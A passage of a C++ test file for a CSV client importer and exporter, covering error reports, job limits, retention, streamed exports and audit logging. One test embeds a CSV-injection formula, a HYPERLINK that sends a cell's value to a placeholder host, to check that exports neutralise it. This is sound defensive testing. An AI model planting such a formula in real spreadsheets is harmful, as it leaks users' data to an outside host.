  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_THAT(failed.failure_reason(), HasSubstr("not found"));
  EXPECT_EQ(Number(bianchi_), "") << "nothing of a refused batch is applied";

  directory_.before_apply = nullptr;
  JobRecord again = Import(csv, "second-upload");
  EXPECT_EQ(again.state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  EXPECT_EQ(Number(bianchi_), "B-1");
  std::vector<ErrorRecord> errors = Errors(again);
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(errors[0].row(), 2);
  EXPECT_EQ(errors[0].code(), v1::ImportError::UNKNOWN_COMPANY_ID);
}

TEST_F(ImporterTest, TheErrorReportRoundTripsAfterFixing) {
  JobRecord job = Import(
      File({absl::StrCat(rossi_, ",Rossi SRL,R-1"),
            absl::StrCat(bianchi_, ",Bianchi WRONG,B-1"),
            absl::StrCat(verdi_, ",\"Società Verdi\",v-9x") + std::string(100, 'y')}));
  absl::StatusOr<std::string> report = Report(job);
  ASSERT_THAT(report, IsOk()) << report.status();
  std::vector<csv::Record> rows = csv::Parse(*report);
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_THAT(rows[0].fields,
              ElementsAre("Company ID", "Display Name", "Client Number", "Error"));
  EXPECT_THAT(rows[1].fields[3], HasSubstr("row 3"));

  // The user fixes the two rows and uploads the report as it is.
  rows[1].fields[1] = "Bianchi SpA";
  rows[2].fields[2] = "V-9";
  std::string fixed(csv::kBom);
  for (const csv::Record& r : rows) fixed += csv::Line(r.fields);
  JobRecord second = Import(fixed);
  EXPECT_EQ(second.state(), v1::ImportJob::SUCCEEDED) << second.failure_reason();
  EXPECT_EQ(Number(bianchi_), "B-1");
  EXPECT_EQ(Number(verdi_), "V-9");
}

// A report is read and sent a page of errors at a time, not held whole
// while its caller reads (100 stalled downloads of a 907 KB report held
// 2.6 MB each); a row's errors stay one line across a page's end.
TEST_F(ImporterTest, TheErrorReportComesInPiecesWithEachRowOnOneLine) {
  std::vector<std::string> lines(63, "0,Nobody,");
  lines.push_back(",Nobody," + std::string(101, '9'));  // errors 64 and 65
  for (int i = 0; i < 100; ++i) lines.push_back("0,Nobody,");
  JobRecord job = Import(File(lines));
  ASSERT_EQ(job.rejected_rows(), 164);
  std::vector<std::string> pieces;
  ASSERT_THAT(importer_->ErrorReport(testing::As("alice"), {firm_, job.job_id()},
                                     [&](std::string piece) {
                                       pieces.push_back(std::move(piece));
                                       return true;
                                     }),
              IsOk());
  EXPECT_EQ(pieces.size(), 3u);
  std::string all;
  for (const std::string& piece : pieces) {
    EXPECT_LE(csv::Parse(piece).size(), 64u + 1u);
    all += piece;
  }
  std::vector<csv::Record> rows = csv::Parse(all);
  ASSERT_EQ(rows.size(), 1u + 164u);
  EXPECT_THAT(rows[64].fields[3], HasSubstr("row 65: "));
  EXPECT_THAT(rows[64].fields[3], HasSubstr("; "));
  EXPECT_THAT(rows[65].fields[3], HasSubstr("row 66: "));

  // A caller who leaves stops it.
  int sent = 0;
  EXPECT_THAT(importer_->ErrorReport(testing::As("alice"), {firm_, job.job_id()},
                                     [&](std::string) { return ++sent < 1; }),
              StatusIs(absl::StatusCode::kCancelled));
  EXPECT_EQ(sent, 1);
}

TEST_F(ImporterTest, AnItalianErrorReportKeepsItsHeadersAndRoundTrips) {
  JobRecord job = Import("ID società;Nome visualizzato;Numero cliente\n" +
                         absl::StrCat(bianchi_, ";Bianchi WRONG;B-1\n"));
  absl::StatusOr<std::string> report = Report(job);
  ASSERT_THAT(report, IsOk()) << report.status();
  // Written with the file's separator, for the spreadsheet that wrote it.
  std::vector<csv::Record> rows = csv::Parse(*report, ';');
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_THAT(rows[0].fields,
              ElementsAre("ID società", "Nome visualizzato", "Numero cliente", "Errore"));
  rows[1].fields[1] = "Bianchi SpA";
  std::string fixed(csv::kBom);
  for (const csv::Record& r : rows) fixed += csv::Line(r.fields, ';');
  JobRecord second = Import(fixed);
  EXPECT_EQ(second.state(), v1::ImportJob::SUCCEEDED) << second.failure_reason();
  EXPECT_EQ(Number(bianchi_), "B-1");
}

TEST_F(ImporterTest, LimitsAndHeadersAreCheckedBeforeAnyJobExists) {
  std::string big = "Company ID,Display Name,Client Number\n";
  for (int i = 0; i < 1001; ++i) big += absl::StrCat(rossi_, ",Rossi SRL,\n");
  EXPECT_THAT(importer_->Start(testing::As("alice"), firm_, big, "", ""),
              StatusIs(absl::StatusCode::kResourceExhausted));
  EXPECT_THAT(
      importer_->Start(testing::As("alice"), firm_, "Id,Name,Number\n1,2,3\n", "", ""),
      StatusIs(absl::StatusCode::kInvalidArgument));
  EXPECT_TRUE(importer_->List(testing::As("alice"), firm_, {})->items.empty());
  EXPECT_TRUE(scheduler_.queue.empty());
}

// A file's name is a label of one line: 200 characters at most.
TEST_F(ImporterTest, AFileNameIsOneLineOfAtMost200Characters) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  for (const std::string& name :
       {std::string(201, 'f'), std::string("clients\n.csv"), std::string("\xFF.csv")}) {
    auto refused = importer_->Start(testing::As("alice"), firm_, csv, name, "");
    EXPECT_THAT(refused, StatusIs(absl::StatusCode::kInvalidArgument)) << name;
    EXPECT_THAT(errors::FieldViolationsOf(refused.status()),
                ElementsAre(Field(&errors::FieldViolation::field, "file_name")));
  }
  EXPECT_TRUE(importer_->List(testing::As("alice"), firm_, {})->items.empty());
  EXPECT_THAT(
      importer_->Start(testing::As("alice"), firm_, csv, std::string(200, 'f'), ""),
      IsOk());
}

TEST_F(ImporterTest, OnlyFirmMembersImportOrReadJobs) {
  EXPECT_THAT(importer_->Start(testing::As("mallory"), firm_,
                               File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}), "", ""),
              StatusIs(absl::StatusCode::kPermissionDenied));
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  EXPECT_THAT(importer_->Get(testing::As("mallory"), {firm_, job.job_id()}),
              StatusIs(absl::StatusCode::kPermissionDenied));
  bool sent = false;
  EXPECT_THAT(importer_->ErrorReport(testing::As("mallory"), {firm_, job.job_id()},
                                     [&](std::string) { return sent = true; }),
              StatusIs(absl::StatusCode::kPermissionDenied));
  EXPECT_FALSE(sent) << "not even the headers";
}

// A firm's queue of jobs is bounded: the 101st unfinished one is refused
// with when to retry, nothing stored; a retry of a started one still
// answers; once jobs end, new ones start.
TEST_F(ImporterTest, AFirmMayHave100UnfinishedJobsAndNoMore) {
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  for (size_t i = 0; i < kMaxUnfinishedJobsPerFirm; ++i) {
    ASSERT_THAT(
        importer_->Start(testing::As("alice"), firm_, csv, "", absl::StrCat("job-", i)),
        IsOk());
  }
  absl::StatusOr<JobRecord> refused =
      importer_->Start(testing::As("alice"), firm_, csv, "", "job-100");
  EXPECT_THAT(refused, StatusIs(absl::StatusCode::kResourceExhausted));
  EXPECT_EQ(errors::ReasonOf(refused.status()), "TOO_MANY_IMPORT_JOBS");
  EXPECT_THAT(errors::QuotaSubjectsOf(refused.status()),
              ElementsAre(absl::StrCat("firms/", firm_)));
  EXPECT_EQ(errors::RetryDelayOf(refused.status()), absl::Seconds(5));
  EXPECT_EQ(importer_->ListUnfinished(testing::As("alice"), firm_)->size(), 100u);
  EXPECT_THAT(importer_->Start(testing::As("alice"), firm_, csv, "", "job-7"), IsOk());

  RunScheduled();
  EXPECT_THAT(importer_->ListUnfinished(testing::As("alice"), firm_),
              ::clientbook::testing::IsOkAndHolds(::testing::IsEmpty()));
  EXPECT_THAT(importer_->Start(testing::As("alice"), firm_, csv, "", "job-100"), IsOk());
}

TEST_F(ImporterTest, UnfinishedJobsAreTheFirmsOwnNotYetEnded) {
  JobRecord done = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  JobRecord waiting = testing::ValueOrFail(
      importer_->Start(testing::As("alice"), firm_,
                       File({absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}), "b.csv", ""));
  const uint64_t other_firm =
      testing::ValueOrFail(domain_->firms.CreateFirm(testing::As("bob"), "Other",
                                                     "bob@other.example", "Bob", ""))
          .id();
  ASSERT_THAT(
      importer_->Start(testing::As("bob"), other_firm,
                       File({absl::StrCat(rossi_, ",Rossi SRL,X-1")}), "x.csv", ""),
      IsOk());
  auto unfinished = importer_->ListUnfinished(testing::As("alice"), firm_);
  ASSERT_THAT(unfinished, IsOk()) << unfinished.status();
  ASSERT_EQ(unfinished->size(), 1u);
  EXPECT_EQ((*unfinished)[0].job_id(), waiting.job_id());
  EXPECT_NE((*unfinished)[0].job_id(), done.job_id());
  EXPECT_THAT(importer_->ListUnfinished(testing::As("bob"), firm_),
              StatusIs(absl::StatusCode::kPermissionDenied));
  RunScheduled();
  EXPECT_TRUE(testing::ValueOrFail(importer_->ListUnfinished(testing::As("alice"), firm_))
                  .empty());
}

TEST_F(ImporterTest, JobsListNewestFirst) {
  JobRecord first = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  JobRecord second = Import(File({absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}));
  auto jobs = importer_->List(testing::As("alice"), firm_, {});
  ASSERT_EQ(jobs->items.size(), 2u);
  EXPECT_EQ(jobs->items[0].job_id(), second.job_id());
  EXPECT_EQ(jobs->items[1].job_id(), first.job_id());
}

// A firm keeps its newest 1,000 jobs: the 1,002nd start deletes the oldest
// finished job and its error log, never an unfinished one, nor another
// firm's.
TEST_F(ImporterTest, AFirmKeepsItsNewest1000JobsAndNewStartsDeleteTheFinishedPastThem) {
  const uint64_t other_firm =
      testing::ValueOrFail(domain_->firms.CreateFirm(testing::As("bob"), "Other",
                                                     "bob@other.example", "Bob", ""))
          .id();
  JobRecord others = testing::ValueOrFail(
      importer_->Start(testing::As("bob"), other_firm,
                       File({absl::StrCat(rossi_, ",Rossi SRL,X-1")}), "x.csv", ""));
  JobRecord waiting = testing::ValueOrFail(
      importer_->Start(testing::As("alice"), firm_,
                       File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}), "w.csv", ""));
  scheduler_.queue.clear();
  JobRecord oldest = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-2"),
                                  absl::StrCat(bianchi_, ",Wrong,B-1")}),
                            "oldest");
  ASSERT_EQ(Errors(oldest).size(), 1u);
  EXPECT_TRUE(oldest.plan().empty()) << "a job ended for good keeps no plan";
  const std::string csv = File({absl::StrCat(bianchi_, ",Bianchi SpA,B-2")});
  for (size_t i = 3; i <= kMaxJobsKeptPerFirm; ++i) Import(csv);
  EXPECT_EQ(real_store_->JobsPastNewest(firm_, 0, 2000)->size(), kMaxJobsKeptPerFirm);

  // The 1,001st: past the newest 999 is only the unfinished one.
  Import(csv);
  EXPECT_EQ(GetJob(oldest).state(), v1::ImportJob::PARTIALLY_SUCCEEDED);
  // The 1,002nd: the oldest finished one goes, with its log and request id.
  Import(csv);
  EXPECT_THAT(importer_->Get(testing::As("alice"), {firm_, oldest.job_id()}),
              StatusIs(absl::StatusCode::kNotFound));
  EXPECT_TRUE(real_store_->ListErrors({firm_, oldest.job_id()}, "", 10)->items.empty());
  EXPECT_FALSE(real_store_->FindRequest("alice", "oldest")->has_value());
  // Its deletion is in import's feed, in the write that deleted it.
  changes::ChangeLog& log = real_store_->change_log();
  auto recent = log.Read(log.next_sequence() - 10, 10);
  ASSERT_THAT(recent, IsOk());
  EXPECT_TRUE(std::any_of(recent->begin(), recent->end(), [&](const auto& change) {
    return change->type() == "DELETED" && change->source() == "sweep" &&
           change->name() == names::ImportJobName{firm_, oldest.job_id()}.ToString();
  }));
  EXPECT_EQ(GetJob(waiting).state(), v1::ImportJob::VALIDATING);
  EXPECT_EQ(real_store_->JobsPastNewest(firm_, 0, 2000)->size(), kMaxJobsKeptPerFirm + 1);
  EXPECT_THAT(importer_->Get(testing::As("bob"), {other_firm, others.job_id()}), IsOk());
}

// A firm found with more finished jobs than it keeps (kept before the
// bound) comes down to it over its next starts, 64 a start.
TEST_F(ImporterTest, AFirmWithManyMoreJobsComesDownToItsNewest1000OverItsStarts) {
  const size_t kept_before = kMaxJobsKeptPerFirm + 100;
  for (size_t i = 0; i < kept_before; ++i) {
    JobRecord done;
    done.set_firm_id(firm_);
    done.set_job_id(*real_store_->AllocateJobId());
    done.set_state(v1::ImportJob::SUCCEEDED);
    ASSERT_THAT(real_store_->CreateJob(done, {}), IsOk());
    ASSERT_THAT(real_store_->UpdateJob(done, std::nullopt), IsOk());
  }
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  ASSERT_THAT(importer_->Start(testing::As("alice"), firm_, csv, "", ""), IsOk());
  EXPECT_EQ(real_store_->JobsPastNewest(firm_, 0, 5000)->size(),
            kept_before + 1 - kMaxJobsDeletedPerStart);
  ASSERT_THAT(importer_->Start(testing::As("alice"), firm_, csv, "", ""), IsOk());
  EXPECT_EQ(real_store_->JobsPastNewest(firm_, 0, 5000)->size(), kMaxJobsKeptPerFirm);
}

TEST_F(ImporterTest, FinishedJobsAndTheirLogsAreDeletedAfterTheRetention) {
  JobRecord job = Import(File(
      {absl::StrCat(rossi_, ",Rossi SRL,R-1"), absl::StrCat(bianchi_, ",Wrong,B-1")}));
  clock_.Advance(absl::Hours(24 * 90) - absl::Seconds(1));
  EXPECT_EQ(*importer_->DeleteJobsOlderThan(absl::Hours(24 * 90)), 0u);
  clock_.Advance(absl::Seconds(2));
  EXPECT_EQ(*importer_->DeleteJobsOlderThan(absl::Hours(24 * 90)), 1u);
  EXPECT_THAT(importer_->Get(testing::As("alice"), {firm_, job.job_id()}),
              StatusIs(absl::StatusCode::kNotFound));
  EXPECT_TRUE(real_store_->ListErrors({firm_, job.job_id()}, "", 10)->items.empty());
  EXPECT_TRUE(real_store_->GetRows({firm_, job.job_id()})->empty());
}

// After a restore of the directory: a job of a firm it no longer has is
// listed for a person; one created while the directory is read is not.
TEST_F(ImporterTest, JobsOfAFirmTheDirectoryNoLongerHasAreFound) {
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}));
  clock_.Advance(absl::Seconds(1));
  using Firms = absl::flat_hash_set<uint64_t>;
  JobReconciliation directory_empty = testing::ValueOrFail(
      importer_->FindJobsWithoutFirm([]() -> absl::StatusOr<Firms> { return Firms{}; }));
  EXPECT_EQ(directory_empty.checked_count, 1);
  EXPECT_EQ(directory_empty.mismatch_count, 1);
  ASSERT_EQ(directory_empty.jobs_without_firm.size(), 1u);
  EXPECT_EQ(directory_empty.jobs_without_firm[0].job_id(), job.job_id());

  JobReconciliation found =
      testing::ValueOrFail(importer_->FindJobsWithoutFirm([&]() -> absl::StatusOr<Firms> {
        // Made while the directory is read: its firm may be newer than
        // the snapshot.
        Import(File({absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}));
        return Firms{firm_ + 1};
      }));
  EXPECT_EQ(found.checked_count, 1);
  EXPECT_EQ(found.mismatch_count, 1);
  EXPECT_EQ(found.directory_firm_count, 1);

  EXPECT_EQ(
      testing::ValueOrFail(importer_->FindJobsWithoutFirm([&]() -> absl::StatusOr<Firms> {
        return Firms{firm_};
      })).mismatch_count,
      0);
}

TEST_F(ImporterTest, ExportStreamsEveryClientInChunksWithQuoting) {
  // 2,500 more clients, so the export spans pages and chunks.
  const uint64_t first_neri = AddClient("Neri, Gialli 2000");
  for (int i = 2001; i < 4500; ++i) AddClient(absl::StrCat("Neri, Gialli ", i));
  std::string all;
  int chunks = 0;
  ASSERT_THAT(
      importer_->Export(testing::As("alice"), firm_, v1::ITALIAN, ',', false, AnyRoom,
                        [&](std::string chunk) {
                          EXPECT_LE(chunk.size(), 64u * 1024 + 200);
                          all += chunk;
                          ++chunks;
                          return true;
                        }),
      IsOk());
  EXPECT_GT(chunks, 1);
  std::vector<csv::Record> rows = csv::Parse(all);
  ASSERT_EQ(rows.size(), 3u + 2500u + 1u);
  EXPECT_THAT(rows[0].fields,
              ElementsAre("ID società", "Nome visualizzato", "Numero cliente"));
  // In name order: Bianchi, then the Neri, Gialli clients, Rossi, Verdi.
  EXPECT_THAT(rows[1].fields, ElementsAre(absl::StrCat(bianchi_), "Bianchi SpA", ""));
  EXPECT_THAT(rows[2].fields,
              ElementsAre(absl::StrCat(first_neri), "Neri, Gialli 2000", ""));
}

// Where a comma is the decimal separator, Excel reads and writes ';': the
// separator asked for separates and is quoted in a name, a comma is not.
TEST_F(ImporterTest, ExportWritesTheSeparatorAskedForAndUploadsBack) {
  const uint64_t semicolon = AddClient("Bruni; Gialli");
  const uint64_t comma = AddClient("Neri, Gialli");
  std::string exported;
  ASSERT_THAT(
      importer_->Export(testing::As("alice"), firm_, v1::ITALIAN, ';', false, AnyRoom,
                        [&](std::string chunk) {
                          exported += chunk;
                          return true;
                        }),
      IsOk());
  EXPECT_THAT(exported, HasSubstr("ID società;Nome visualizzato;Numero cliente\r\n"));
  EXPECT_THAT(exported, HasSubstr(absl::StrCat(semicolon, ";\"Bruni; Gialli\";\r\n")));
  EXPECT_THAT(exported, HasSubstr(absl::StrCat(comma, ";Neri, Gialli;\r\n")));
  JobRecord again = Import(exported);
  EXPECT_EQ(again.state(), v1::ImportJob::SUCCEEDED) << again.failure_reason();
  EXPECT_EQ(again.unchanged_rows(), 5);
}

// A name or number a spreadsheet would run as a formula (CSV injection) is
// exported as text, and the export uploaded again changes nothing; a row of
// it an upload rejects keeps that in the error report.
TEST_F(ImporterTest, FormulasAreExportedAsTextAndReadBackAsTheyWere) {
  const std::string formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")";
  const uint64_t hostile = AddClient(formula, "-17");
  std::string exported;
  ASSERT_THAT(
      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, AnyRoom,
                        [&](std::string chunk) {
                          exported += chunk;
                          return true;
                        }),
      IsOk());
  EXPECT_THAT(exported, HasSubstr(absl::StrCat(hostile, ",\"'=HYPERLINK(")));
  EXPECT_THAT(exported, HasSubstr(",'-17\r\n"));

  JobRecord again = Import(exported);
  EXPECT_EQ(again.state(), v1::ImportJob::SUCCEEDED) << again.failure_reason();
  EXPECT_EQ(again.rejected_rows(), 0);
  EXPECT_EQ(Number(hostile), "-17");

  // The report writes each cell as the upload read it: "'-2" was -2.
  JobRecord wrong = Import(
      File({absl::StrCat(rossi_, ",@Rossi,-1"), absl::StrCat(bianchi_, ",Bianchi,'-2")}));
  ASSERT_EQ(wrong.rejected_rows(), 2);
  const std::string report = testing::ValueOrFail(Report(wrong));
  EXPECT_THAT(report, HasSubstr(absl::StrCat(rossi_, ",'@Rossi,'-1,")));
  EXPECT_THAT(report, HasSubstr(absl::StrCat(bianchi_, ",Bianchi,'-2,")));
}

// An export holds one page's CSV while its caller reads the last: pages of
// 1,000 clients of the longest names (1.2 MB) took the import service past
// half a GiB with 300 callers that stopped reading. Pages are now asked
// for by the size of their rows: about one chunk each (within twice, as
// rows of one page differ from the last's), the first small.
TEST_F(ImporterTest, ExportPagesAreSizedToAChunkOfTheirRows) {
  std::string longest;  // 1,000 bytes of a name, 384 of a number
  for (int i = 0; i < 250; ++i) longest += "\xF0\x9F\x98\x80";
  for (int i = 0; i < 400; ++i) {
    const std::string n = absl::StrCat(1000 + i);
    AddClient(absl::StrCat("Verdi ", n, " ", longest.substr(0, 189 * 4)),
              absl::StrCat(n, longest.substr(0, 96 * 4)));
  }
  size_t rows = 0;
  ASSERT_THAT(
      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, AnyRoom,
                        [&](std::string piece) {
                          EXPECT_LE(piece.size(), 2u * 64 * 1024);
                          rows += csv::Parse(piece).size();
                          return true;
                        }),
      IsOk());
  EXPECT_EQ(rows, 1u + 3u + 400u);
  EXPECT_EQ(directory_.page_sizes.front(), 50);
  for (int32_t size : directory_.page_sizes) EXPECT_LE(size, 100);
  // Short rows: pages grow, at most doubling, to 1,000.
  for (int i = 0; i < 3000; ++i) AddClient(absl::StrCat("Bianchi ", i));
  directory_.page_sizes.clear();
  ASSERT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false,
                                AnyRoom, [](std::string) { return true; }),
              IsOk());
  EXPECT_THAT(directory_.page_sizes, ElementsAre(50, 100, 200, 400, 800, 1000, 1000));
}

// What the last page's rows say of the next is a guess: 1,550 short names
// and then the longest ones let a page of 1,000 long rows through (1.4 MB
// each export whose caller stopped reading held). Each page now holds room
// for its rows at their longest and has fewer rows when the room has less;
// one at least, so every export ends.
TEST_F(ImporterTest, ExportPagesHoldRoomForTheirLongestRowsAndShrinkToIt) {
  for (int i = 0; i < 300; ++i) AddClient(absl::StrCat("Bianchi ", i));
  int64_t room_left = 7 * kMaxExportRowBytes + 100;
  int64_t held = 0;
  std::vector<int64_t> asked;
  const ExportRoom room = [&](int64_t bytes) {
    asked.push_back(bytes);
    held = std::min(bytes, room_left);
    return held;
  };
  size_t rows = 0;
  const auto sink = [&](std::string piece) {
    EXPECT_LE(static_cast<int64_t>(piece.size()),
              std::max(held, kMaxExportRowBytes) + 100);  // + the headers
    rows += csv::Parse(piece).size();
    return true;
  };
  ASSERT_THAT(
      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, room, sink),
      IsOk());
  EXPECT_EQ(rows, 1u + 3u + 300u);
  EXPECT_EQ(asked.front(), 50 * kMaxExportRowBytes);
  EXPECT_THAT(directory_.page_sizes, Each(7));

  room_left = 0;
  rows = 0;
  directory_.page_sizes.clear();
  ASSERT_THAT(
      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false, room, sink),
      IsOk());
  EXPECT_EQ(rows, 1u + 3u + 300u);
  EXPECT_EQ(directory_.page_sizes.size(), 303u);
  EXPECT_THAT(directory_.page_sizes, Each(1));
}

// The newest record of import's log.
changes::SharedRecord NewestRecord(RocksImportStore& store) {
  changes::ChangeLog& log = store.change_log();
  auto newest = testing::ValueOrFail(log.Read(log.next_sequence() - 1, 1));
  EXPECT_EQ(newest.size(), 1u);
  return newest.empty() ? nullptr : newest.front();
}

// The record before the newest of import's log.
changes::SharedRecord RecordBeforeNewest(RocksImportStore& store) {
  changes::ChangeLog& log = store.change_log();
  auto records = testing::ValueOrFail(log.Read(log.next_sequence() - 2, 1));
  return records.empty() ? nullptr : records.front();
}

// A kill -9 between an export's first rows and its end must not take the
// read out of the audit: it was kept only as it ended.
TEST_F(ImporterTest, AnExportIsInTheAuditBeforeItsFirstRowsLeave) {
  for (int i = 0; i < 100; ++i) AddClient(absl::StrCat("Bianchi ", i));
  int pieces = 0;
  ASSERT_THAT(
      importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', true, AnyRoom,
                        [&](std::string) {
                          if (++pieces == 1) {
                            changes::SharedRecord begun = NewestRecord(*real_store_);
                            EXPECT_NE(begun, nullptr);
                            if (begun == nullptr) return false;
                            EXPECT_EQ(begun->type(), changes::kExportStarted);
                            EXPECT_EQ(begun->actor(), "alice");
                            EXPECT_EQ(begun->name(), names::FirmName{firm_}.ToString());
                            EXPECT_EQ(begun->read_filter(), "include_inactive");
                          }
                          return true;
                        }),
      IsOk());
  EXPECT_GT(pieces, 1);
  changes::SharedRecord ended = NewestRecord(*real_store_);
  ASSERT_NE(ended, nullptr);
  EXPECT_EQ(ended->type(), changes::kExported);
  EXPECT_EQ(ended->rows_read(), 100 + 3);  // Rossi, Bianchi and Verdi of the fixture
  changes::SharedRecord begun = RecordBeforeNewest(*real_store_);
  ASSERT_NE(begun, nullptr);
  EXPECT_EQ(begun->type(), changes::kExportStarted);
  EXPECT_EQ(begun->rows_read(), 0);
}

// What left is what the audit keeps. An export kept its reader only once
// it had sent the whole list, so a reader who cancelled at 99%, or was
// removed from the firm half way, took rows out unrecorded.
TEST_F(ImporterTest, AnExportThatEndsHalfWayIsKeptWithTheRowsThatLeft) {
  for (int i = 0; i < 100; ++i) AddClient(absl::StrCat("Bianchi ", i));  // pages: 50, 53
  directory::MemberRecord bob;
  bob.set_user_id("bob");
  bob.set_email("bob@studio.example");
  bob.set_role(v1::Role::STAFF);
  ASSERT_THAT(domain_->firms.AddMember(testing::As("alice"), names::FirmName{firm_}, bob),
              IsOk());
  const uint64_t before = real_store_->change_log().next_sequence();

  // Its caller leaves after the first piece.
  int pieces = 0;
  EXPECT_THAT(importer_->Export(testing::As("bob"), firm_, v1::ENGLISH, ',', false,
                                AnyRoom, [&](std::string) { return ++pieces < 2; }),
              StatusIs(absl::StatusCode::kCancelled));
  changes::SharedRecord read = NewestRecord(*real_store_);
  ASSERT_NE(read, nullptr);
  EXPECT_EQ(read->type(), changes::kExported);
  EXPECT_EQ(read->actor(), "bob");
  EXPECT_EQ(read->rows_read(), 50);

  // Removed from the firm after the first piece: the next page is refused.
  pieces = 0;
  EXPECT_THAT(
      importer_->Export(testing::As("bob"), firm_, v1::ENGLISH, ',', true, AnyRoom,
                        [&](std::string) {
                          if (++pieces == 1) {
                            EXPECT_THAT(domain_->removal.RemoveMember(
                                            testing::As("alice"),
                                            names::MemberName{firm_, "bob"}, "", ""),
                                        IsOk());
                          }
                          return true;
                        }),
      StatusIs(absl::StatusCode::kPermissionDenied));
  read = NewestRecord(*real_store_);
  ASSERT_NE(read, nullptr);
  EXPECT_EQ(read->type(), changes::kExported);
  EXPECT_EQ(read->rows_read(), 50);
  EXPECT_EQ(read->read_filter(), "include_inactive");

  // Refused before it had rows to hand over: nothing kept.
  const uint64_t kept = real_store_->change_log().next_sequence();
  EXPECT_EQ(kept, before + 4);  // the two reads, each begun and ended
  EXPECT_THAT(importer_->Export(testing::As("mallory"), firm_, v1::ENGLISH, ',', false,
                                AnyRoom, [](std::string) { return true; }),
              StatusIs(absl::StatusCode::kPermissionDenied));
  EXPECT_EQ(real_store_->change_log().next_sequence(), kept);
  // Its caller gone as the first rows were handed over: none left, but the
  // read had begun.
  EXPECT_THAT(importer_->Export(testing::As("alice"), firm_, v1::ENGLISH, ',', false,
                                AnyRoom, [](std::string) { return false; }),
              StatusIs(absl::StatusCode::kCancelled));
  read = NewestRecord(*real_store_);
  ASSERT_NE(read, nullptr);
  EXPECT_EQ(read->type(), changes::kExported);
  EXPECT_EQ(read->rows_read(), 0);
  EXPECT_EQ(real_store_->change_log().next_sequence(), kept + 2);
}

TEST_F(ImporterTest, AnErrorReportThatEndsHalfWayIsKeptWithTheRowsThatLeft) {
  std::vector<std::string> rows;
  for (int i = 0; i < 100; ++i) rows.push_back(absl::StrCat(",Nobody ", i, ",X-", i));
  JobRecord job = Import(File(rows));
  ASSERT_EQ(job.rejected_rows(), 100);
  int pieces = 0;
  size_t rows_received = 0;
  EXPECT_THAT(importer_->ErrorReport(testing::As("alice"), {firm_, job.job_id()},
                                     [&](std::string piece) {
                                       if (++pieces > 1) return false;
                                       rows_received += csv::Parse(piece).size() - 1;
                                       return true;
                                     }),
              StatusIs(absl::StatusCode::kCancelled));
  changes::SharedRecord read = NewestRecord(*real_store_);
  ASSERT_NE(read, nullptr);
  EXPECT_EQ(read->type(), changes::kExported);
  EXPECT_EQ(read->name(), (names::ImportJobName{firm_, job.job_id()}.ToString()));
  EXPECT_GT(rows_received, 0u);
  EXPECT_LT(rows_received, 100u);
  EXPECT_EQ(read->rows_read(), static_cast<int64_t>(rows_received));
}

TEST_F(ImporterTest, ARowThatIsNotUtf8IsMalformedAndTheJobEnds) {
  const std::string latin1 = "Soci\xE9t\xE9";
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1"),
                               absl::StrCat(bianchi_, ",") + latin1 + ",B-\xFF"}));
  EXPECT_EQ(job.state(), v1::ImportJob::PARTIALLY_SUCCEEDED) << job.failure_reason();
  EXPECT_EQ(Number(rossi_), "R-1");
  EXPECT_EQ(Number(bianchi_), "");
  std::vector<ErrorRecord> errors = Errors(job);
  ASSERT_EQ(errors.size(), 1u);
  EXPECT_EQ(CodeOf(errors[0]), v1::ImportError::MALFORMED_ROW);
  EXPECT_EQ(errors[0].row(), 3);
  // The bytes are kept as they were, for the report and the API's escaping.
  EXPECT_THAT(errors[0].original(),
              ElementsAre(absl::StrCat(bianchi_), latin1, "B-\xFF"));
  absl::StatusOr<std::string> report = Report(job);
  ASSERT_THAT(report, IsOk()) << report.status();
  EXPECT_THAT(*report, HasSubstr(latin1));
}

TEST_F(ImporterTest, TheSameRequestIdWithAnotherFileIsRefused) {
  Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1")}), "upload-9");
  auto other = importer_->Start(testing::As("alice"), firm_,
                                File({absl::StrCat(rossi_, ",Rossi SRL,R-2")}), "x.csv",
                                "upload-9");
  EXPECT_THAT(other, StatusIs(absl::StatusCode::kInvalidArgument));
  EXPECT_EQ(Number(rossi_), "R-1");
}

TEST_F(ImporterTest, ALostAnswerIsResentUnderTheSameIdAndCountedOnce) {
  directory_.lose_answers = 1;
  JobRecord job = Import(File({absl::StrCat(rossi_, ",Rossi SRL,R-1"),
                               absl::StrCat(bianchi_, ",Bianchi SpA,B-1")}));
  EXPECT_EQ(job.state(), v1::ImportJob::SUCCEEDED) << job.failure_reason();
  EXPECT_EQ(job.applied_rows(), 2);
  EXPECT_EQ(directory_.apply_calls, 1);
  EXPECT_EQ(waited, absl::Seconds(1));
}

TEST_F(ImporterTest, AnOutcomeNeverHeardIsNotCalledNothingAppliedAndARetryResolvesIt) {
  directory_.lose_answers = 3;  // every resend of this run too
  const std::string csv = File({absl::StrCat(rossi_, ",Rossi SRL,R-1")});
  JobRecord failed = Import(csv, "u-lost");
  EXPECT_EQ(failed.state(), v1::ImportJob::FAILED);
  EXPECT_TRUE(failed.retryable());
  EXPECT_THAT(failed.failure_reason(), Not(HasSubstr("nothing was applied")));
